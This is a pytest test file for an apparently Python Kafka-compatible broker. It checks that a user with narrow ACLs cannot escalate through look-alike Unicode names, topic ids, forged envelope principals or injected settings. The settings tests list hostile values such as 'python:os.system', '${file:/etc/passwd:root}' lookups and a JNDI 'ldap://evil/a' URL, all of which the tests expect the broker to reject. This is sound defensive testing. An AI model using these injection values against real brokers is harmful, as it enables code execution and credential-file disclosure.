"""A user with one ACL tries to do more, on a node with ACLs: by names that look alike, forged requests, settings."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from pykbroker.dispatch.principals import encode_principal
from pykbroker.runtime.secret_files import MAX_SECRET_BYTES
from pykbroker.sasl.sasl_client import Login
from pykbroker.security.acl import PatternType, Permission
from pykbroker.security.authorizer import Operation, Resource
from pykbroker_wire.errors import ErrorCode
from pykbroker_wire.messages import alter_configs as legacy
from pykbroker_wire.messages.create_acls import AclCreation, CreateAclsRequest
from pykbroker_wire.messages.create_topics import CreatableTopic, CreateTopicsRequest
from pykbroker_wire.messages.delete_topics import DeleteTopicsRequest, DeleteTopicState
from pykbroker_wire.messages.envelope import EnvelopeRequest
from pykbroker_wire.messages.fetch import FetchPartition, FetchRequest, FetchTopic
from pykbroker_wire.messages.fetch_snapshot import FetchSnapshotRequest
from pykbroker_wire.messages.find_coordinator import FindCoordinatorRequest
from pykbroker_wire.messages.metadata import MetadataRequest, MetadataRequestTopic
from pykbroker_wire.messages.sasl_authenticate import SaslAuthenticateRequest
from pykbroker_wire.messages.sasl_handshake import SaslHandshakeRequest
from pykbroker_wire.messages.vote import VoteRequest
from testkit.certificates import authority, node_identity
from testkit.nodes.wire import BROKER, TOPIC, Closed, Wire, batch, frame_of
from tests.node.secured_listeners.test_tls_listeners import Secured

USERS = ("mallory", "Mallory", "mall")
POINTS = "CLIENTS://localhost:0,SSL://localhost:0,PLAINTEXT://localhost:0,CONTROLLER://localhost:0"
PROPERTIES = {
    "listeners": POINTS,
    "advertised.listeners": POINTS,
    "listener.security.protocol.map": "CLIENTS:SASL_PLAINTEXT,SSL:SSL,PLAINTEXT:PLAINTEXT,CONTROLLER:PLAINTEXT",
    "sasl.enabled.mechanisms": "PLAIN",
    "listener.name.clients.plain.sasl.jaas.config": "org.apache.kafka.common.security.plain.PlainLoginModule required "
    + " ".join(f'user_{name}="{name}-secret"' for name in (*USERS, "admin"))
    + ";",
    "authorizer.class.name": "org.apache.kafka.metadata.authorizer.StandardAuthorizer",
    "super.users": "User:admin",
}
STORE_SECRET = "store-secret"


def with_stores(folder: Path) -> dict[str, str]:
    """Return the keys of the listener SSL as well."""
    folder.mkdir(exist_ok=True)
    (folder / "node.p12").write_bytes(node_identity().pkcs12(STORE_SECRET))
    (folder / "trust.p12").write_bytes(authority().truststore(STORE_SECRET))
    return {
        **PROPERTIES,
        "ssl.keystore.location": str(folder / "node.p12"),
        "ssl.keystore.password": STORE_SECRET,
        "ssl.truststore.location": str(folder / "trust.p12"),
        "ssl.truststore.password": STORE_SECRET,
    }


class Locked(Secured):
    def as_user(self, user: str) -> Wire:
        wire = Wire(self.address("CLIENTS"))
        assert wire.call(SaslHandshakeRequest(mechanism="PLAIN")).error_code == ErrorCode.NONE
        token = Login("PLAIN", user, f"{user}-secret").begin().first()
        assert wire.call(SaslAuthenticateRequest(auth_bytes=token)).error_code == ErrorCode.NONE
        return wire


def acl(resource: Resource, name: str, operation: Operation, **changes: Any) -> AclCreation:
    fields: dict[str, Any] = {
        "resource_type": resource,
        "resource_name": name,
        "resource_pattern_type": PatternType.LITERAL,
        "principal": "User:mallory",
        "host": "*",
        "operation": operation,
        "permission_type": Permission.ALLOW,
    }
    return AclCreation(**{**fields, **changes})


ACLS = [
    acl(Resource.TOPIC, "orders", Operation.ALL),
    acl(Resource.TOPIC, "team-", Operation.ALL, resource_pattern_type=PatternType.PREFIXED),
    acl(Resource.GROUP, "caf\u00e9", Operation.READ),
    acl(Resource.GROUP, "team-", Operation.READ, resource_pattern_type=PatternType.PREFIXED),
    # The only configuration that it may alter.
    acl(Resource.CLUSTER, "kafka-cluster", Operation.ALTER_CONFIGS),
    acl(Resource.TOPIC, "configured", Operation.ALTER_CONFIGS),
]


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Locked]:
    with Locked(tmp_path_factory.mktemp("node"), with_stores(tmp_path_factory.mktemp("stores"))) as node:
        with node.as_user("admin") as admin:
            for name in ("orders", "Orders", "team", "secret", "configured"):
                admin.create(name)
            assert admin.produce("secret", batch(b"hidden")).error_code == ErrorCode.NONE
            answer = admin.call(CreateAclsRequest(creations=ACLS))
            assert [result.error_code for result in answer.results] == [ErrorCode.NONE] * len(ACLS)
        yield node


@pytest.fixture
def mallory(node: Locked) -> Iterator[Wire]:
    with node.as_user("mallory") as wire:
        yield wire


# Names that look alike.


def group_error(wire: Wire, name: str) -> int:
    answer = wire.call(FindCoordinatorRequest(key_type=0, coordinator_keys=[name])).coordinators[0]
    return int(answer.error_code)


@pytest.mark.parametrize(
    "name",
    [
        "cafe\u0301",  # in another Unicode normal form
        "CAF\u00c9",
        "Caf\u00e9",
        "caf\u00e9 ",
        "caf\u00e9\0",
        "\u0441af\u00e9",  # a Cyrillic letter
        "caf\u00e9\u200b",
        "caf\ufffd",
        "team",
        "Team-a",
        "team\u2010a",
        " team-a",
        "*",
        "",
    ],
)
def test_a_group_that_looks_like_an_allowed_one(mallory: Wire, name: str) -> None:
    assert group_error(mallory, name) == ErrorCode.GROUP_AUTHORIZATION_FAILED


def test_the_allowed_ones(mallory: Wire) -> None:
    for name in ("caf\u00e9", "team-", "team-a"):
        assert group_error(mallory, name) != ErrorCode.GROUP_AUTHORIZATION_FAILED


@pytest.mark.parametrize(
    "name", ["Orders", "team", "secret", "ORDERS", "orders.", "order", "Team-a", "__cluster_metadata"]
)
def test_a_topic_that_looks_like_an_allowed_one(mallory: Wire, name: str) -> None:
    assert mallory.metadata(name).topics[0].error_code == ErrorCode.TOPIC_AUTHORIZATION_FAILED
    assert mallory.produce(name, batch(b"x")).error_code == ErrorCode.TOPIC_AUTHORIZATION_FAILED
    assert mallory.fetch(name).error_code == ErrorCode.TOPIC_AUTHORIZATION_FAILED


@pytest.mark.parametrize("user", ["Mallory", "mall"])
def test_a_user_whose_name_looks_like_one_with_acls(node: Locked, user: str) -> None:
    with node.as_user(user) as wire:
        assert wire.metadata("orders").topics[0].error_code == ErrorCode.TOPIC_AUTHORIZATION_FAILED
        assert group_error(wire, "team-a") == ErrorCode.GROUP_AUTHORIZATION_FAILED


# Ids instead of names, and versions.


def test_the_id_of_a_topic_opens_nothing(node: Locked, mallory: Wire) -> None:
    with node.as_user("admin") as admin:
        topic_id = admin.metadata("secret").topics[0].topic_id
    topic = mallory.call(MetadataRequest(topics=[MetadataRequestTopic(topic_id=topic_id, name=None)])).topics[0]
    assert topic.error_code in (ErrorCode.TOPIC_AUTHORIZATION_FAILED, ErrorCode.UNKNOWN_TOPIC_ID)
    assert not topic.name
    assert not topic.partitions
    for version in range(4, 18):
        asked = FetchPartition(partition=0, fetch_offset=0, current_leader_epoch=-1, partition_max_bytes=1 << 20)
        which = FetchTopic(topic="secret", topic_id=topic_id, partitions=[asked])
        request = FetchRequest(max_wait_ms=0, min_bytes=0, max_bytes=1 << 20, session_epoch=-1, topics=[which])
        answer = mallory.call(request, version).responses[0].partitions[0]
        assert answer.error_code in (ErrorCode.TOPIC_AUTHORIZATION_FAILED, ErrorCode.UNKNOWN_TOPIC_ID)
        assert not answer.records
    deleted = mallory.call(
        DeleteTopicsRequest(topics=[DeleteTopicState(topic_id=topic_id, name=None)], timeout_ms=1000)
    )
    assert deleted.responses[0].error_code != ErrorCode.NONE
    assert not deleted.responses[0].name


# Requests that only brokers and controllers may send.


def envelope(principal: bytes, inner: Any = None, version: int = 7) -> EnvelopeRequest:
    inner = inner or CreateTopicsRequest(topics=[CreatableTopic(name="forged", num_partitions=1, replication_factor=1)])
    data = frame_of(inner, version, client_id="c")[4:]
    return EnvelopeRequest(request_data=data, request_principal=principal, client_host_address=b"\x7f\0\0\1")


def test_a_forged_principal_in_an_envelope(node: Locked, mallory: Wire) -> None:
    """On the listener of clients it is no request; to the controller an ordinary client may not send one."""
    forged = envelope(encode_principal("User:admin"))
    with pytest.raises(Closed):
        mallory.call(forged)
    with Wire(node.address("CONTROLLER")) as wire:
        for principal in (encode_principal("User:admin"), encode_principal("User:mallory"), b"", b"\0\1", b"garbage"):
            answer = wire.call(envelope(principal))
            assert answer.error_code == ErrorCode.CLUSTER_AUTHORIZATION_FAILED
            assert not answer.response_data
        nested = envelope(encode_principal("User:admin"), forged, 0)
        assert wire.call(nested).error_code == ErrorCode.CLUSTER_AUTHORIZATION_FAILED
    with node.as_user("admin") as admin:
        assert admin.metadata("forged").topics[0].error_code == ErrorCode.UNKNOWN_TOPIC_OR_PARTITION


def test_a_client_that_says_it_is_a_follower_takes_no_place_from_others(node: Locked, mallory: Wire) -> None:
    """Followers' fetch sessions take the places of those of consumers, and keep them."""
    asked = FetchPartition(partition=0, fetch_offset=0, current_leader_epoch=-1, partition_max_bytes=1 << 20)

    def open_session(replica_id: int) -> int:
        topics = [FetchTopic(topic="orders", partitions=[asked])]
        request = FetchRequest(replica_id=replica_id, max_wait_ms=0, max_bytes=1 << 20, session_epoch=0, topics=topics)
        return int(mallory.call(request, 12).session_id)

    sessions = node.node.services.fetch_sessions
    for replica_id, privileged in ((-1, False), (1, False), (7, False)):
        session = sessions.peek(open_session(replica_id))
        assert session is not None
        assert session.privileged is privileged
    with node.as_user("admin") as admin:
        topics = [FetchTopic(topic="orders", partitions=[asked])]
        request = FetchRequest(replica_id=7, max_wait_ms=0, max_bytes=1 << 20, session_epoch=0, topics=topics)
        session = sessions.peek(admin.call(request, 12).session_id)
        assert session is not None
        assert session.privileged


@pytest.mark.parametrize("request_", [VoteRequest(), FetchSnapshotRequest()], ids=["Vote", "FetchSnapshot"])
def test_requests_of_controllers_on_the_listener_of_clients(mallory: Wire, request_: Any) -> None:
    with pytest.raises(Closed):
        mallory.call(request_)


# Settings that would run code, read a file, or open a listener.

BROKER_SETTINGS = {
    "listeners": "PLAINTEXT://0.0.0.0:0",
    "advertised.listeners": "PLAINTEXT://evil:9092",
    "listener.security.protocol.map": "CLIENTS:PLAINTEXT,PLAINTEXT:PLAINTEXT,CONTROLLER:PLAINTEXT",
    "early.start.listeners": "CLIENTS",
    "authorizer.class.name": "python:os.system",
    "principal.builder.class": "python:builtins.eval",
    "create.topic.policy.class.name": "python:subprocess.Popen",
    "alter.config.policy.class.name": "python:subprocess.Popen",
    "client.quota.callback.class": "python:os.system",
    "ssl.engine.factory.class": "python:os.system",
    "ssl.keystore.location": "/etc/passwd",
    "listener.name.clients.ssl.keystore.location": "/etc/passwd",
    "listener.name.clients.ssl.truststore.location": "/etc/passwd",
    "listener.name.clients.plain.sasl.jaas.config": "com.sun.security.auth.module.JndiLoginModule required "
    'user.provider.url="ldap://evil/a";',
    "sasl.jaas.config": "com.sun.security.auth.module.LdapLoginModule required;",
    "listener.name.clients.plain.sasl.server.callback.handler.class": "python:os.system",
    "sasl.server.callback.handler.class": "python:os.system",
    "sasl.oauthbearer.jwks.endpoint.url": "file:///etc/passwd",
    "config.providers": "file",
    "log.dirs": "/etc",
    "remote.log.storage.manager.class.path": "/tmp",
    "pykbroker.metrics.listener": "0.0.0.0:0",
    "log.cleaner.threads": "${file:/etc/passwd:root}",
    "log.retention.ms": "${env:HOME}",
    "message.max.bytes": "python:os.getpid",
    "log.cleanup.policy": "${directory:/etc:passwd}",
}
#: Apache Kafka accepts these as keys for a plug-in; a node that accepts them must ignore them.
KEPT_SETTINGS = {
    "super.users": "User:mallory",
    "allow.everyone.if.no.acl.found": "true",
    "metric.reporters": "org.apache.kafka.common.metrics.JmxReporter",
    "auto.include.jmx.reporter": "${env:HOME}",
    "config.providers.file.class": "org.apache.kafka.common.config.provider.FileConfigProvider",
    "leader.replication.throttled.replicas": "${file:/etc/passwd:root}",
}
TOPIC_SETTINGS = {
    "cleanup.policy": "${file:/etc/passwd:root}",
    "compression.type": "python:os.system",
    "retention.ms": "${env:HOME}",
    "leader.replication.throttled.replicas": "${file:/etc/passwd:root}",
    "follower.replication.throttled.replicas": "${env:HOME}",
    "no.such.key": "${env:HOME}",
}
CASES = [(BROKER, name, key, value) for key, value in BROKER_SETTINGS.items() for name in ("", "1")] + [
    (TOPIC, "configured", key, value) for key, value in TOPIC_SETTINGS.items()
]


@pytest.mark.parametrize(("kind", "name", "key", "value"), CASES, ids=[f"{one[2]}-{one[1]}" for one in CASES])
def test_a_user_with_nothing_but_alter_configs(
    node: Locked, mallory: Wire, kind: int, name: str, key: str, value: str
) -> None:
    config = legacy.AlterableConfig(name=key, value=value)
    resource = legacy.AlterConfigsResource(resource_type=kind, resource_name=name, configs=[config])
    answers = [
        mallory.alter(kind, name, {key: value}),
        mallory.call(legacy.AlterConfigsRequest(resources=[resource], validate_only=False)).responses[0],
    ]
    for answer in answers:
        assert answer.error_code in (ErrorCode.INVALID_CONFIG, ErrorCode.INVALID_REQUEST), answer
        assert "root:" not in (answer.error_message or "")
    with node.as_user("admin") as admin:
        entries = admin.describe(kind, name)
        assert key not in entries or entries[key].config_source not in (1, 2, 3)


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Files that a node must not read, by what its response would reveal about them."""
    folder = tmp_path_factory.mktemp("files")
    os.mkfifo(folder / "pipe")
    with open(folder / "large", "wb") as large:
        large.truncate(MAX_SECRET_BYTES + 1)
    return {
        "it is no regular file": str(folder / "pipe"),
        "it is no regular file ": "/dev/zero",
        "bytes": str(folder / "large"),
        "null": "/etc/pass\0wd",
        "No such file": str(folder / "gone"),
        "it is no store": "/etc/passwd",
    }


def alter_store(wire: Wire, path: str) -> list[Any]:
    key = "listener.name.ssl.ssl.truststore.location"
    config = legacy.AlterableConfig(name=key, value=path)
    resource = legacy.AlterConfigsResource(resource_type=BROKER, resource_name="1", configs=[config])
    return [
        wire.alter(BROKER, "1", {key: path}),
        wire.call(legacy.AlterConfigsRequest(resources=[resource], validate_only=True)).responses[0],
    ]


def test_a_user_without_an_acl_has_no_file_read(node: Locked, files: dict[str, str]) -> None:
    """Each response is the same, and reveals nothing about the file."""
    with node.as_user("mall") as wire:
        answers = [answer for path in files.values() for answer in alter_store(wire, path)]
        assert {answer.error_code for answer in answers} == {ErrorCode.CLUSTER_AUTHORIZATION_FAILED}
        assert len({answer.error_message for answer in answers}) == 1


def test_what_is_no_store_is_not_waited_for(mallory: Wire, files: dict[str, str]) -> None:
    for said, path in files.items():
        for answer in alter_store(mallory, path):
            assert answer.error_code == ErrorCode.INVALID_REQUEST
            assert said.strip() in answer.error_message, answer


@pytest.mark.slow
def test_settings_of_the_file_alone_change_nothing_after_a_restart(tmp_path: Path) -> None:
    data = tmp_path / "data"
    with Locked(data, with_stores(tmp_path / "stores")) as node:
        with node.as_user("admin") as admin:
            admin.create("secret")
            assert admin.call(CreateAclsRequest(creations=ACLS[4:5])).results[0].error_code == ErrorCode.NONE
        with node.as_user("mallory") as wire:
            for key, value in KEPT_SETTINGS.items():
                for name in ("", "1"):
                    assert wire.alter(BROKER, name, {key: value}).error_code in (
                        ErrorCode.NONE,
                        ErrorCode.INVALID_CONFIG,
                    )
    with Locked(data, with_stores(tmp_path / "stores")) as node:
        with node.as_user("mallory") as wire:
            assert wire.metadata("secret").topics[0].error_code == ErrorCode.TOPIC_AUTHORIZATION_FAILED
            assert wire.call(CreateAclsRequest(creations=ACLS[:1])).results[0].error_code
        with node.as_user("admin") as admin:
            for key, value in KEPT_SETTINGS.items():
                # It is as it was written, hidden, or not there.
                found = admin.describe(BROKER, "1").get(key)
                assert found is None or found.config_source not in (1, 2) or found.value in (value, None)


def test_its_settings_open_no_other_resource(mallory: Wire) -> None:
    assert mallory.alter(TOPIC, "secret", {"retention.ms": "1"}).error_code == ErrorCode.TOPIC_AUTHORIZATION_FAILED


def test_nothing_listens_but_what_the_file_names(node: Locked, tmp_path: Path) -> None:
    assert sorted(each.name for each in node.node.listeners) == ["CLIENTS", "CONTROLLER", "PLAINTEXT", "SSL"]
    Wire(node.address("CLIENTS")).close()
